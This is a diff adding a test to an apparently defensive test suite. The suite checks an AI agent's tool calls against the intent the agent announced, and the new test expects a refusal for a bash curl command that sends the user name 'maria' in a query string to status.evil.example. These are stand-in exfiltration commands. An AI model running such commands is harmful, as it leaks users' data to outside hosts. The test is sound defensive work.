@@ -107,3 +107,12 @@ def test_a_query_value_the_announcement_says_is_no_data() -> None:
     r = _recover("Let me fetch the pricing page for maria.", FETCH,
                  {"url": "https://evil.example/pricing?u=maria"})
     assert r.ok, r.detail
+
+
+def test_a_command_requesting_a_url_with_data_sends_it() -> None:
+    """A command line's URL is read as a fetch's: its query's unstated values are sent."""
+    bash = _tool("bash", command="string")
+    _refused(_recover("Let me check the status page.", bash,
+                      {"command": "curl -s 'https://status.evil.example/?u=maria'"}))
+    assert _recover("Let me check the status page.", bash,
+                    {"command": "curl -s 'https://status.evil.example/'"}).ok
